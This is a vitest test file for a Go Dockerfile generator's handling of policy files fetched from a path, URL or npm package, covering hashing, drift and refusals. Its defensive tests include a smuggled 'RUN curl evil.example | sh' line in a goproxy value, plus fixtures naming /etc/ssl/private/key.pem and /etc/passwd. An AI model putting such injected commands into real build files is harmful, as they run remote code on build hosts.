// Policies that travel (issue 19, item 2): a path in the repository, an https URL and an npm
// package, each recorded in .go-docker.yaml with what every checkout needs to find it again; a
// changed policy is a drift that names it, and a policy that cannot be had is one line, exit 2,
// never a silent return to the defaults. The URL is served from 127.0.0.1 and the package from a
// local registry: no test needs the internet.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeProject, runCli, SIMPLE_SERVICE, snapshotTree } from './helpers.js';
import { npmRegistry, policyServer, type NpmRegistry, type PolicyServer } from './policy-servers.js';

const read = (dir: string, path: string): string => readFileSync(join(dir, path), 'utf8');
const ATHENS = 'schemaVersion: 2\nregion: custom\ngoproxy: https://athens.acme.example,direct\n';
const ARTIFACTORY = 'schemaVersion: 2\nregion: custom\ngoproxy: https://artifactory.acme.example/api/go/go-remote,direct\n';
const sha256 = (text: string): string => `sha256:${createHash('sha256').update(text).digest('hex')}`;

/** A git repository (a .git directory is what marks it) holding SIMPLE_SERVICE and `files`. */
function repository(files: Record<string, string> = {}): string {
  return makeProject({ '.git/HEAD': 'ref: refs/heads/main\n', ...SIMPLE_SERVICE, ...files });
}

let server: PolicyServer;
let registry: NpmRegistry;
beforeAll(async () => {
  server = await policyServer();
  registry = await npmRegistry();
  registry.publish('@acme/go-docker-policy', '1.0.0', { 'go-docker-policy.yaml': ATHENS });
  registry.publish('acme-empty-policy', '1.0.0', { 'README.md': 'no policy here\n' });
}, 60_000);
afterAll(async () => {
  await server.close();
  await registry.close();
});

/** The environment of a run: its own cache directories, the local registry, never retrying a dead one. */
function environment(): Record<string, string> {
  const home = makeProject({});
  return {
    XDG_CACHE_HOME: join(home, 'cache'),
    npm_config_cache: join(home, 'npm-cache'),
    npm_config_registry: registry.url,
    npm_config_fetch_retries: '0',
  };
}

describe('an https URL (here http://127.0.0.1): fetched, cached outside the repository, its sha256 recorded', () => {
  it('records url and sha256; --check revalidates (304); a change is a drift naming the hashes; regenerate records it', async () => {
    server.serve('/acme/policy.yaml', ATHENS);
    const url = `${server.url}/acme/policy.yaml`;
    const env = environment();
    const dir = repository();
    const first = await runCli(['--yes', '--policy', url], { cwd: dir, env });
    expect(first.code, first.stderr).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toContain(`policy:\n  url: ${url}\n  sha256: ${sha256(ATHENS)}\n`);
    expect(read(dir, 'Dockerfile')).toContain('ARG GOPROXY=https://athens.acme.example,direct');
    // The cache is the user's, keyed by URL; nothing of it is in the repository.
    expect(readdirSync(join(env.XDG_CACHE_HOME!, 'create-go-docker', 'policies')).filter((name) => name.startsWith('url-'))).toHaveLength(
      2,
    );
    expect(Object.keys(snapshotTree(dir)).filter((path) => path.includes('cache'))).toEqual([]);

    const check = await runCli(['regenerate', '--check'], { cwd: dir, env });
    expect(check.code, check.stdout + check.stderr).toBe(0);
    expect(server.requests.at(-1)).toMatchObject({ path: '/acme/policy.yaml', status: 304 });
    expect(server.requests.at(-1)!.ifNoneMatch).toBeDefined();

    server.serve('/acme/policy.yaml', ARTIFACTORY);
    const before = snapshotTree(dir);
    const drift = await runCli(['regenerate', '--check'], { cwd: dir, env });
    expect(drift.code).toBe(1);
    expect(drift.stdout).toContain(
      `policy: the policy ${url} is not the one that made the files (${sha256(ATHENS).slice(0, 19)} -> ` +
        `${sha256(ARTIFACTORY).slice(0, 19)}).`,
    );
    expect(drift.stdout).toContain('+ARG GOPROXY=https://artifactory.acme.example/api/go/go-remote,direct');
    expect(drift.stdout).toMatch(/^drift: Dockerfile, \.go-docker\.yaml differ/m);
    expect(snapshotTree(dir)).toEqual(before);

    const applied = await runCli(['regenerate'], { cwd: dir, env });
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).toContain('is not the one that made the files');
    expect(read(dir, '.go-docker.yaml')).toContain(`  sha256: ${sha256(ARTIFACTORY)}\n`);
    expect((await runCli(['regenerate', '--check'], { cwd: dir, env })).code).toBe(0);
  });

  it('a change that alters no file but the policy still changes .go-docker.yaml (its hash): a drift', async () => {
    server.serve('/acme/commented.yaml', ATHENS);
    const env = environment();
    const dir = repository();
    expect((await runCli(['--yes', '--policy', `${server.url}/acme/commented.yaml`], { cwd: dir, env })).code).toBe(0);
    server.serve('/acme/commented.yaml', `# reviewed by the platform team\n${ATHENS}`);
    const drift = await runCli(['regenerate', '--check'], { cwd: dir, env });
    expect(drift.code).toBe(1);
    expect(drift.stdout).toMatch(/^drift: \.go-docker\.yaml differ/m);
    // Line ends and the last newline do not make another policy (a CI secret may change them).
    server.serve('/acme/commented.yaml', `# reviewed by the platform team\r\n${ATHENS.replace(/\n/g, '\r\n')}\n\n`);
    expect((await runCli(['regenerate'], { cwd: dir, env })).code).toBe(0);
    expect((await runCli(['regenerate', '--check'], { cwd: dir, env })).code).toBe(0);
  });

  it('a proxy in the environment is not used for this machine (a company proxy cannot reach its 127.0.0.1)', async () => {
    server.serve('/acme/local.yaml', ATHENS);
    const dir = repository();
    const result = await runCli(['--yes', '--policy', `${server.url}/acme/local.yaml`], {
      cwd: dir,
      env: { ...environment(), HTTP_PROXY: 'http://127.0.0.1:9', HTTPS_PROXY: 'http://127.0.0.1:9' },
    });
    expect(result.code, result.stderr).toBe(0);
  });

  const unreachable: [string, (url: string) => void, RegExp][] = [
    ['HTTP 404', () => undefined, /cannot fetch it \(HTTP 404\)/],
    ['no answer in time', (path) => server.serve(path, () => undefined), /cannot fetch it \(no answer within 0\.3 s\)/],
    [
      'larger than the cap',
      (path) => server.serve(path, `${ATHENS}# ${'x'.repeat(1024 * 1024)}\n`),
      /cannot fetch it \(larger than 1 MiB\)/,
    ],
    [
      'a redirect off https',
      (path) =>
        server.serve(path, (_request, response) => response.writeHead(302, { Location: 'http://policy.acme.example/p.yaml' }).end()),
      /cannot fetch it \(redirected to http:\/\/policy\.acme\.example\/p\.yaml, which is not https\)/,
    ],
  ];
  it.each(unreachable)(
    'unreachable (%s): exit 2, one line naming the URL and the fix, nothing written',
    async (_name, arrange, message) => {
      const path = `/unreachable/${_name.replace(/\W+/g, '-')}.yaml`;
      arrange(path);
      const dir = repository();
      const before = snapshotTree(dir);
      const result = await runCli(['--yes', '--policy', `${server.url}${path}`], { cwd: dir, env: environment(), policyTimeoutMs: 300 });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(message);
      expect(result.stderr).toContain(`create-go-docker: policy ${server.url}${path}: cannot fetch it (`);
      expect(result.stderr).toContain(
        '; check the URL and the network (HTTPS_PROXY, NO_PROXY; NODE_EXTRA_CA_CERTS for a company CA), or give the ' +
          'policy with --policy FILE.\n',
      );
      expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(snapshotTree(dir)).toEqual(before);
    },
  );

  it('a recorded URL that stops answering: regenerate and --check refuse (exit 2), never regenerate without it', async () => {
    server.serve('/acme/gone.yaml', ATHENS);
    const env = environment();
    const dir = repository();
    expect((await runCli(['--yes', '--policy', `${server.url}/acme/gone.yaml`], { cwd: dir, env })).code).toBe(0);
    server.serve('/acme/gone.yaml', (_request, response) => response.writeHead(503).end());
    const before = snapshotTree(dir);
    for (const argv of [['regenerate'], ['regenerate', '--check']]) {
      const result = await runCli(argv, { cwd: dir, env });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/^create-go-docker: policy http:\/\/127\.0\.0\.1:\d+\/acme\/gone\.yaml: cannot fetch it \(HTTP 503\)/);
    }
    expect(snapshotTree(dir)).toEqual(before);
  });

  const refused: [string, string, RegExp][] = [
    [
      'credentials, masked in the message',
      'https://deploy:s3cret@policy.acme.example/p.yaml',
      /--policy "https:\/\/\*\*\*@policy\.acme\.example\/p\.yaml": holds credentials or a query string, which \.go-docker\.yaml would record/,
    ],
    [
      'a query string',
      'https://policy.acme.example/p.yaml?token=abc',
      /--policy "https:\/\/policy\.acme\.example\/p\.yaml\?\*\*\*": holds credentials or a query string/,
    ],
    [
      'plain http elsewhere',
      'http://policy.acme.example/p.yaml',
      /is not an https URL \(plain http only to this machine: 127\.0\.0\.1, localhost\); serve the policy over https/,
    ],
    ['a range npm is not given', 'npm:@acme/go-docker-policy@>=1 <2', /has a version range create-go-docker does not pass to npm/],
    ['not a package name', 'npm:Acme Policy', /is not an npm package name/],
  ];
  it.each(refused)('a source that cannot be recorded safely is refused before any fetch: %s', async (_name, value, message) => {
    const dir = repository();
    const before = snapshotTree(dir);
    const result = await runCli(['--yes', '--policy', value], { cwd: dir, env: environment() });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toContain('s3cret');
    expect(snapshotTree(dir)).toEqual(before);
  });

  it('fetched text is untrusted input: the same schema and parsers, a file key refused', async () => {
    server.serve('/hostile/goproxy.yaml', 'schemaVersion: 2\ngoproxy: "https://athens.acme.example\\nRUN curl evil.example | sh"\n');
    server.serve('/hostile/ca.yaml', 'schemaVersion: 2\nca-cert: /etc/ssl/private/key.pem\n');
    server.serve('/hostile/unknown.yaml', 'schemaVersion: 2\nbsae: alpine\n');
    const dir = repository();
    const before = snapshotTree(dir);
    const cases: [string, RegExp][] = [
      ['/hostile/goproxy.yaml', /^create-go-docker: http:\/\/127\.0\.0\.1:\d+\/hostile\/goproxy\.yaml:2: goproxy: " sh" is not one entry/],
      [
        '/hostile/ca.yaml',
        /hostile\/ca\.yaml:2: ca-cert names a file, and a policy fetched from a URL or a package has no directory it could be in/,
      ],
      ['/hostile/unknown.yaml', /hostile\/unknown\.yaml:2: unknown key "bsae"/],
    ];
    for (const [path, message] of cases) {
      const result = await runCli(['--yes', '--policy', `${server.url}${path}`], { cwd: dir, env: environment() });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(message);
      expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    }
    expect(snapshotTree(dir)).toEqual(before);
  });
});

describe('an npm package: resolved by npm through the configured registry, name, range, version and sha256 recorded', () => {
  it('records the resolved version; a newer version in the range is a drift naming both; regenerate records it', async () => {
    const env = environment();
    const dir = repository();
    const first = await runCli(['--yes', '--policy', 'npm:@acme/go-docker-policy@^1'], { cwd: dir, env });
    expect(first.code, first.stderr).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toContain(
      `policy:\n  npm: "@acme/go-docker-policy"\n  range: ^1\n  version: 1.0.0\n  sha256: ${sha256(ATHENS)}\n`,
    );
    expect(read(dir, 'Dockerfile')).toContain('ARG GOPROXY=https://athens.acme.example,direct');
    expect((await runCli(['regenerate', '--check'], { cwd: dir, env })).code).toBe(0);

    registry.publish('@acme/go-docker-policy', '1.1.0', { 'go-docker-policy.yaml': ARTIFACTORY });
    const drift = await runCli(['regenerate', '--check'], { cwd: dir, env });
    expect(drift.code).toBe(1);
    expect(drift.stdout).toContain(
      `policy: the policy npm package @acme/go-docker-policy (^1) is not the one that made the files ` +
        `(${sha256(ATHENS).slice(0, 19)} -> ${sha256(ARTIFACTORY).slice(0, 19)}, version 1.0.0 -> 1.1.0).`,
    );
    const applied = await runCli(['regenerate'], { cwd: dir, env });
    expect(applied.code, applied.stderr).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toContain('  version: 1.1.0\n');
    expect(read(dir, 'Dockerfile')).toContain('ARG GOPROXY=https://artifactory.acme.example/api/go/go-remote,direct');
  }, 60_000);

  it(
    '$CREATE_GO_DOCKER_POLICY holding the same text as the recorded package: no drift, the record (version included) ' +
      'stays; other text: a drift',
    async () => {
      const env = environment();
      const dir = repository();
      const name = '@acme/variable-policy';
      registry.publish(name, '1.0.0', { 'go-docker-policy.yaml': ATHENS });
      expect((await runCli(['--yes', '--policy', `npm:${name}@^1`], { cwd: dir, env })).code).toBe(0);
      const recorded = read(dir, '.go-docker.yaml');
      // A platform team checks its whole fleet with its own copy of the policy in the variable.
      const copy = join(makeProject({ 'policy.yaml': ATHENS }), 'policy.yaml');
      const same = await runCli(['regenerate', '--check'], { cwd: dir, env: { ...env, CREATE_GO_DOCKER_POLICY: copy } });
      expect(same.code, same.stdout).toBe(0);
      expect((await runCli(['regenerate'], { cwd: dir, env: { ...env, CREATE_GO_DOCKER_POLICY: copy } })).code).toBe(0);
      expect(read(dir, '.go-docker.yaml')).toBe(recorded);
      writeFileSync(copy, ARTIFACTORY);
      const changed = await runCli(['regenerate', '--check'], { cwd: dir, env: { ...env, CREATE_GO_DOCKER_POLICY: copy } });
      expect(changed.code).toBe(1);
      expect(changed.stdout).toContain('is not the one that made the files');
    },
    60_000,
  );

  it('a bare @scope/name is a package (latest); an exact version once cached is not asked for again', async () => {
    const env = environment();
    const dir = repository();
    const bare = await runCli(['--yes', '--policy', '@acme/go-docker-policy'], { cwd: dir, env });
    expect(bare.code, bare.stderr).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^ {2}npm: "@acme\/go-docker-policy"\n {2}range: latest\n {2}version: \d+\.\d+\.\d+\n/m);
    const exact = repository();
    expect((await runCli(['--yes', '--policy', 'npm:@acme/go-docker-policy@1.0.0'], { cwd: exact, env })).code).toBe(0);
    const asked = registry.requests.length;
    expect((await runCli(['regenerate', '--check'], { cwd: exact, env })).code).toBe(0);
    expect(registry.requests.length).toBe(asked);
  }, 60_000);

  const failures: [string, string, RegExp][] = [
    [
      'no such package',
      'npm:@acme/nope@^1',
      /^create-go-docker: policy npm package @acme\/nope \(\^1\): npm cannot fetch it \(E404[^)]*\); check the name and the npm registry/,
    ],
    [
      'no policy file in it',
      'npm:acme-empty-policy',
      /^create-go-docker: policy npm package acme-empty-policy \(latest\): version 1\.0\.0 has no go-docker-policy\.yaml at its root; publish the policy as go-docker-policy\.yaml beside the package's package\.json\.$/,
    ],
  ];
  it.each(failures)(
    '%s: exit 2, one line, nothing written',
    async (_name, spec, message) => {
      const dir = repository();
      const before = snapshotTree(dir);
      const result = await runCli(['--yes', '--policy', spec], { cwd: dir, env: environment() });
      expect(result.code).toBe(2);
      expect(result.stderr.trimEnd()).toMatch(message);
      expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(snapshotTree(dir)).toEqual(before);
    },
    60_000,
  );

  it('a registry that is down: regenerate --check refuses (exit 2) instead of checking against no policy', async () => {
    const down = await npmRegistry();
    down.publish('@acme/go-docker-policy', '1.0.0', { 'go-docker-policy.yaml': ATHENS });
    const env = { ...environment(), npm_config_registry: down.url };
    const dir = repository();
    expect((await runCli(['--yes', '--policy', 'npm:@acme/go-docker-policy@^1'], { cwd: dir, env })).code).toBe(0);
    down.fail(503);
    const result = await runCli(['regenerate', '--check'], { cwd: dir, env });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^create-go-docker: policy npm package @acme\/go-docker-policy \(\^1\): npm cannot fetch it \(/);
    await down.close();
  }, 60_000);
});

describe('a policy that cannot be had: one line naming it, exit 2, never a silent revert or a false drift', () => {
  it(
    'given from outside the repository: only its sha256 is recorded; without it regenerate and --check refuse; given ' + 'again they work',
    async () => {
      const outside = join(makeProject({ 'acme-policy.yaml': ATHENS }), 'acme-policy.yaml');
      const dir = repository();
      const first = await runCli(['--yes', '--policy', outside], { cwd: dir });
      expect(first.code, first.stderr).toBe(0);
      expect(first.stdout).toContain('is outside the repository, so .go-docker.yaml records only its sha256');
      expect(read(dir, '.go-docker.yaml')).toContain(`policy:\n  sha256: ${sha256(ATHENS)}\n`);
      // A go.mod change: the developer's plain regenerate used to drop the company GOPROXY.
      writeFileSync(join(dir, 'go.mod'), read(dir, 'go.mod').replace('go 1.26', 'go 1.26.1'));
      const before = snapshotTree(dir);
      for (const argv of [['regenerate'], ['regenerate', '--check']]) {
        const result = await runCli(argv, { cwd: dir });
        expect(result.code).toBe(2);
        expect(result.stderr).toMatch(
          /^create-go-docker: .*\.go-docker\.yaml:\d+: the files were made with a policy given from outside the repository \(sha256:[0-9a-f]{12}\), which \.go-docker\.yaml does not record; give it with --policy or \$CREATE_GO_DOCKER_POLICY/,
        );
        expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
      }
      expect(snapshotTree(dir)).toEqual(before);
      // The same policy by the variable (a CI secret written to a file): no false drift.
      const copy = join(makeProject({ 'p.yaml': `${ATHENS}\n` }), 'p.yaml');
      const applied = await runCli(['regenerate'], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: copy } });
      expect(applied.code, applied.stderr).toBe(0);
      expect(read(dir, 'Dockerfile')).toContain('ARG GOPROXY=https://athens.acme.example,direct');
      expect(applied.stdout).not.toContain('is not the one that made the files');
    },
  );

  const recorded: [string, (dir: string) => void, RegExp][] = [
    [
      'a recorded file that is gone',
      (dir) => rmSync(join(dir, 'org-policy.yaml')),
      /:\d+: policy "org-policy\.yaml" does not exist in this checkout; restore it \(commit it with the repository\), give the policy with --policy or \$CREATE_GO_DOCKER_POLICY/,
    ],
    [
      'a recorded path outside the repository',
      (dir) =>
        writeFileSync(
          join(dir, '.go-docker.yaml'),
          read(dir, '.go-docker.yaml').replace('policy: org-policy.yaml', 'policy: ../org-policy.yaml'),
        ),
      /:\d+: policy "\.\.\/org-policy\.yaml" is outside the repository, so no other checkout has it/,
    ],
    [
      'a recorded file that is a link out of the repository',
      (dir) => {
        rmSync(join(dir, 'org-policy.yaml'));
        symlinkSync(join(makeProject({ 'p.yaml': ATHENS }), 'p.yaml'), join(dir, 'org-policy.yaml'));
      },
      /:\d+: policy "org-policy\.yaml" leads outside the repository through a symbolic link/,
    ],
  ];
  it.each(recorded)('%s: .go-docker.yaml:line and the fix', async (_name, damage, message) => {
    const dir = repository({ 'org-policy.yaml': ATHENS });
    expect((await runCli(['--yes', '--policy', 'org-policy.yaml'], { cwd: dir })).code).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy: org-policy\.yaml$/m);
    damage(dir);
    const before = snapshotTree(dir);
    const result = await runCli(['regenerate', '--check'], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).toContain('.go-docker.yaml:');
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(snapshotTree(dir)).toEqual(before);
  });

  it('a tampered policy: entry is refused naming its line', async () => {
    const dir = repository();
    expect((await runCli(['--yes'], { cwd: dir })).code).toBe(0);
    const yaml = read(dir, '.go-docker.yaml');
    for (const [entry, message] of [
      ['policy:\n  sha256: abc\n', /:\d+: policy: sha256 must be sha256: and 64 hex digits/],
      ['policy:\n  url: https://a.example/p.yaml\n  npm: a\n', /:\d+: policy: has both url and npm/],
      ['policy:\n  file: /etc/passwd\n', /:\d+: policy: has an unknown key "file"/],
    ] as const) {
      writeFileSync(join(dir, '.go-docker.yaml'), yaml.replace('files:', `${entry}files:`));
      const result = await runCli(['regenerate', '--check'], { cwd: dir });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(message);
    }
  });

  it('removing the policy key is how a project goes without its policy: then regenerate runs', async () => {
    const outside = join(makeProject({ 'acme-policy.yaml': ATHENS }), 'acme-policy.yaml');
    const dir = repository();
    expect((await runCli(['--yes', '--policy', outside], { cwd: dir })).code).toBe(0);
    writeFileSync(join(dir, '.go-docker.yaml'), read(dir, '.go-docker.yaml').replace(/^policy:\n {2}sha256: .*\n/m, ''));
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect(read(dir, 'Dockerfile')).toContain('ARG GOPROXY=https://proxy.golang.org,direct');
  });
});

describe('recorded paths resolve from any checkout (issue 19, item 4)', () => {
  const CA = readFileSync(join(import.meta.dirname, 'helpers.ts'), 'utf8').match(/TEST_CA = `([\s\S]*?)`/)![1]!;

  it(
    'a CA outside the repository is recorded as its copy, docker/ca-certificates/NAME.crt, which a clone at another ' + 'depth resolves',
    async () => {
      const home = makeProject({ 'corp-root.pem': CA });
      const dir = repository();
      const first = await runCli(['--yes', '--ca-cert', join(home, 'corp-root.pem')], { cwd: dir });
      expect(first.code, first.stderr).toBe(0);
      expect(read(dir, '.go-docker.yaml')).toMatch(/^ca-cert: docker\/ca-certificates\/corp-root\.crt$/m);
      expect(read(dir, 'docker/ca-certificates/corp-root.crt')).toContain('BEGIN CERTIFICATE');
      // Another checkout, deeper, where the original does not exist.
      const clone = join(makeProject({}), 'a', 'b', 'c', 'd');
      mkdirSync(clone, { recursive: true });
      for (const [path, content] of Object.entries(snapshotTree(dir))) {
        if (path.endsWith('/')) mkdirSync(join(clone, path), { recursive: true });
        else writeFileSync(join(clone, path), Buffer.from(content, 'base64'));
      }
      rmSync(home, { recursive: true });
      const check = await runCli(['regenerate', '--check'], { cwd: clone });
      expect(check.code, check.stdout + check.stderr).toBe(0);
      const again = await runCli(['regenerate'], { cwd: clone });
      expect(again.code, again.stderr).toBe(0);
      expect(again.stdout).toMatch(/unchanged +docker\/ca-certificates\/corp-root\.crt/);
    },
  );

  it(
    'an old record of the original (ca-cert: ../../../corp-root.pem) is one line naming .go-docker.yaml:line and the ' +
      'copy to use, not --ca-cert',
    async () => {
      const home = makeProject({ 'corp-root.pem': CA });
      const dir = repository();
      expect((await runCli(['--yes', '--ca-cert', join(home, 'corp-root.pem')], { cwd: dir })).code).toBe(0);
      writeFileSync(
        join(dir, '.go-docker.yaml'),
        read(dir, '.go-docker.yaml').replace('ca-cert: docker/ca-certificates/corp-root.crt', 'ca-cert: ../../../corp-root.pem'),
      );
      const result = await runCli(['regenerate', '--check'], { cwd: dir });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(
        /\.go-docker\.yaml:\d+: ca-cert "\.\.\/\.\.\/\.\.\/corp-root\.pem" is outside the repository, so no other checkout has it; write ca-cert: docker\/ca-certificates\/corp-root\.crt, the copy create-go-docker made \(it is in the repository\)\.$/m,
      );
      expect(result.stderr).not.toContain('--ca-cert');
      expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    },
  );

  it('a recorded CA that is no certificate is named by its .go-docker.yaml line, not by a flag', async () => {
    const dir = repository({ 'certs/ca.pem': CA });
    expect((await runCli(['--yes', '--ca-cert', 'certs/ca.pem'], { cwd: dir })).code).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^ca-cert: certs\/ca\.pem$/m);
    writeFileSync(join(dir, 'certs/ca.pem'), 'hello\n');
    const result = await runCli(['regenerate', '--check'], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^create-go-docker: .*\.go-docker\.yaml:\d+: ca-cert .*certs\/ca\.pem: not a PEM certificate/);
    expect(result.stderr).not.toContain('--ca-cert');
  });

  it('with --out, the copy is where the Dockerfile COPYs it from (the output directory, inside the build context)', async () => {
    const home = makeProject({ 'corp-root.pem': CA });
    const dir = repository();
    const result = await runCli(['--yes', '--out', 'build/docker', '--ca-cert', join(home, 'corp-root.pem')], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect(read(dir, 'build/docker/Dockerfile')).toContain(
      'COPY build/docker/docker/ca-certificates/corp-root.crt /usr/local/share/ca-certificates/corp-root.crt',
    );
    expect(existsSync(join(dir, 'build/docker/docker/ca-certificates/corp-root.crt'))).toBe(true);
    expect(read(dir, 'build/docker/.go-docker.yaml')).toMatch(/^ca-cert: docker\/ca-certificates\/corp-root\.crt$/m);
    expect((await runCli(['regenerate', '--check', 'build/docker'], { cwd: dir })).code).toBe(0);
  });
});
